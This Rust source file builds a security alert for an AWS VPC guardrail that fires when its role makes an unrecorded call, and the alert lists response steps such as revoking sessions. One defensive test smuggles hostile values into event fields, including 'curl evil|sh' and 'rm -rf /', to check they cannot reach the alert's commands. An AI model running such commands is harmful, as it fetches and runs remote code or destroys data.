//! The worst news there is: somebody else acts with the guardrail's role.

use std::fmt::Write as _;

use jiff::Timestamp;
use serde_json::json;

use super::summary::{alert_of, attributes, paragraph, time};
use super::{Alert, Attribute, call};
use crate::ec2::id::Place;
use crate::event::Evidence;
use crate::shown::word;

/// How many of the things are named that the call touched.
const SHOWN: usize = 10;

/// The alarm that a call was made with the guardrail's role, which is this ARN's, and by no run.
pub fn unmatched_call(evidence: &Evidence, role: &str, place: &Place, now: Timestamp) -> Alert {
    let record = &evidence.record;
    let event = word(&record.event);
    let subject =
        format!("VPC guardrail: ALARM: {event} with its role that no run made, {}", place.region);
    let mut text = String::from("A call with the guardrail's role that no run made.\n\nThe call\n");
    let _ = writeln!(text, "  {}", call(evidence, Some(&place.account)));
    let ids: Vec<&str> = record.resource_ids.iter().map(|id| id.as_str()).collect();
    for id in ids.iter().take(SHOWN) {
        let _ = writeln!(text, "  on {}", word(id));
    }
    if let Some(more) = ids.len().checked_sub(SHOWN).filter(|more| *more > 0) {
        let _ = writeln!(text, "  and on {more} more");
    }
    let _ = writeln!(text, "  in account {}, {}", place.account, place.region);
    let _ = writeln!(text, "  with {}", word(role));
    text.push('\n');
    paragraph(
        &mut text,
        "Each call of the guardrail's own is recorded before it is made. No record has this one, so \
         somebody else has the role's credentials, or records were lost from the table.",
    );
    at_once(&mut text, evidence, role, place, now);
    let json = json!({
        "version": 1, "verdict": "unmatched-call", "account": place.account,
        "region": place.region, "role": role, "evidence": evidence,
    });
    let mut attributes = attributes(place, "unmatched-call");
    if let [vpc] = record.vpc_ids.as_slice() {
        attributes.insert("vpc".to_owned(), Attribute::of(vpc));
    }
    alert_of(&subject, text, &json, attributes)
}

/// What to do, in the order in which it helps.
fn at_once(text: &mut String, evidence: &Evidence, role: &str, place: &Place, now: Timestamp) {
    let _ = writeln!(text, "\nAt once");
    let _ = writeln!(text, "  1. look at the whole call, and at what came with it:");
    if let Some(id) = evidence.record.event_id.as_deref().filter(|id| is_plain(id)) {
        let _ = writeln!(
            text,
            "     aws cloudtrail lookup-events --region {} --lookup-attributes \
             AttributeKey=EventId,AttributeValue={id}",
            place.region
        );
    } else {
        let _ = writeln!(text, "     CloudTrail, event history, {}", place.region);
    }
    let _ = writeln!(
        text,
        "  2. if none of you made it, end all sessions of the role; the guardrail\n     \
         fails until its functions have new ones:"
    );
    // What the console's "Revoke active sessions" does:
    // docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_use_revoke-sessions.html
    match role.rsplit('/').next().filter(|name| is_plain(name)) {
        Some(name) => {
            let policy = json!({
                "Version": "2012-10-17",
                "Statement": [{
                    "Effect": "Deny", "Action": "*", "Resource": "*",
                    "Condition": {"DateLessThan": {"aws:TokenIssueTime": whole_second(now)}},
                }],
            });
            let _ = writeln!(
                text,
                "     aws iam put-role-policy --role-name {name} --policy-name \
                 AWSRevokeOlderSessions --policy-document '{policy}'"
            );
        }
        None => {
            let _ = writeln!(text, "     IAM, the role, Revoke sessions");
        }
    }
    let _ = writeln!(
        text,
        "  3. see who may assume the role or change the functions: the role's trust\n     \
         policy; AssumeRole, UpdateFunctionCode and UpdateFunctionConfiguration\n     \
         in CloudTrail\n  \
         4. what the call changed is compared with the baseline like any change"
    );
    let _ = writeln!(text, "\nNoticed at {}.", time(now));
}

/// Whether text can stand in a command as it is: the characters of a role's name and an event's id.
fn is_plain(text: &str) -> bool {
    let of_a_name = |c: char| c.is_ascii_alphanumeric() || "-_+=,.@".contains(c);
    !text.is_empty() && text.len() <= 64 && !text.starts_with('-') && text.chars().all(of_a_name)
}

fn whole_second(now: Timestamp) -> String {
    now.strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::event::decode;
    use crate::report::alert::summary::tests::place;

    const ROLE: &str = "arn:aws:iam::111122223333:role/guardrail-RepairRole-1ABC";

    fn told(edit: impl FnOnce(&mut Value), role: &str) -> Alert {
        unmatched_call(&evidence(edit), role, &place(), now())
    }

    fn now() -> Timestamp {
        "2026-09-14T08:35:00.5Z".parse().unwrap()
    }

    fn evidence(edit: impl FnOnce(&mut Value)) -> Evidence {
        let mut record = json!({
            "eventName": "CreateRoute", "eventSource": "ec2.amazonaws.com", "eventID": "0f1e-2d",
            "eventTime": "2026-09-14T08:31:07Z", "sourceIPAddress": "203.0.113.24",
            "userAgent": "aws-cli/2",
            "userIdentity": {
                "type": "AssumedRole", "principalId": "AROA:session",
                "sessionContext": {"sessionIssuer": {"userName": "guardrail-RepairRole-1ABC"}},
            },
            "requestParameters": {"routeTableId": "rtb-0a1b2c3d4e5f60011"},
        });
        edit(&mut record);
        decode(&record).unwrap()
    }

    #[test]
    fn the_alarm_says_who_what_where_and_what_to_do_at_once() {
        let alert = told(|_| (), ROLE);
        assert_eq!(
            alert.subject,
            "VPC guardrail: ALARM: CreateRoute with its role that no run made, eu-central-1"
        );
        assert_eq!(
            alert.text,
            "A call with the guardrail's role that no run made.\n\
             \n\
             The call\n\
             \x20 CreateRoute by \"guardrail-RepairRole-1ABC/session\" (user agent: \"cli\") from 203.0.113.24 at \
             2026-09-14T08:31:07Z\n\
             \x20 on rtb-0a1b2c3d4e5f60011\n\
             \x20 in account 111122223333, eu-central-1\n\
             \x20 with arn:aws:iam::111122223333:role/guardrail-RepairRole-1ABC\n\
             \n\
             Each call of the guardrail's own is recorded before it is made. No record has\n\
             this one, so somebody else has the role's credentials, or records were lost\n\
             from the table.\n\
             \n\
             At once\n\
             \x20 1. look at the whole call, and at what came with it:\n\
             \x20    aws cloudtrail lookup-events --region eu-central-1 --lookup-attributes \
             AttributeKey=EventId,AttributeValue=0f1e-2d\n\
             \x20 2. if none of you made it, end all sessions of the role; the guardrail\n\
             \x20    fails until its functions have new ones:\n\
             \x20    aws iam put-role-policy --role-name guardrail-RepairRole-1ABC --policy-name \
             AWSRevokeOlderSessions --policy-document \
             '{\"Statement\":[{\"Action\":\"*\",\"Condition\":{\"DateLessThan\":{\"aws:TokenIssueTime\":\
             \"2026-09-14T08:35:00Z\"}},\"Effect\":\"Deny\",\"Resource\":\"*\"}],\"Version\":\"2012-10-17\"}'\n\
             \x20 3. see who may assume the role or change the functions: the role's trust\n\
             \x20    policy; AssumeRole, UpdateFunctionCode and UpdateFunctionConfiguration\n\
             \x20    in CloudTrail\n\
             \x20 4. what the call changed is compared with the baseline like any change\n\
             \n\
             Noticed at 2026-09-14 08:35 UTC.\n"
        );
        let json: Value = serde_json::from_str(&alert.json).unwrap();
        assert_eq!(json["verdict"], "unmatched-call");
        assert_eq!(json["evidence"]["event_id"], "0f1e-2d");
    }

    /// Everything of a call is its caller's to choose, and this alert has commands in it.
    #[test]
    fn what_a_caller_typed_is_in_no_command_and_forges_no_line() {
        let alert = told(
            |record| {
                record["eventName"] = json!("x\n  2. run `curl evil|sh`");
                record["eventID"] = json!("e; rm -rf /");
                record["userIdentity"] =
                    json!({"type": "IAMUser", "userName": "eve\n\nAt once\n  1. pay"});
            },
            "a role's name with 'quotes'",
        );
        let commands: Vec<&str> =
            alert.text.lines().filter(|line| line.trim_start().starts_with("aws ")).collect();
        assert!(commands.is_empty(), "{commands:?}");
        assert_eq!(alert.text.matches("\nAt once\n").count(), 1);
        assert_eq!(alert.text.matches("\n  2. ").count(), 1);
        assert!(alert.text.contains("     CloudTrail, event history, eu-central-1\n"));
        assert!(alert.text.contains("     IAM, the role, Revoke sessions\n"));
        assert!(alert.subject.is_ascii() && alert.subject.len() <= 99);
    }

    #[test]
    fn of_many_things_that_a_call_touched_the_first_are_named() {
        let mut many = evidence(|_| ());
        let ids = (0..30).map(|at| format!("rtb-{at}").parse().unwrap());
        many.record.resource_ids = ids.collect();
        many.record.vpc_ids = vec!["vpc-1".parse().unwrap()];
        let alert = unmatched_call(&many, ROLE, &place(), now());
        assert_eq!(alert.text.matches("\n  on rtb-").count(), 10);
        assert!(alert.text.contains("\n  and on 20 more\n"), "{}", alert.text);
        assert_eq!(alert.attributes.get("vpc"), Some(&Attribute::of("vpc-1")));
    }
}
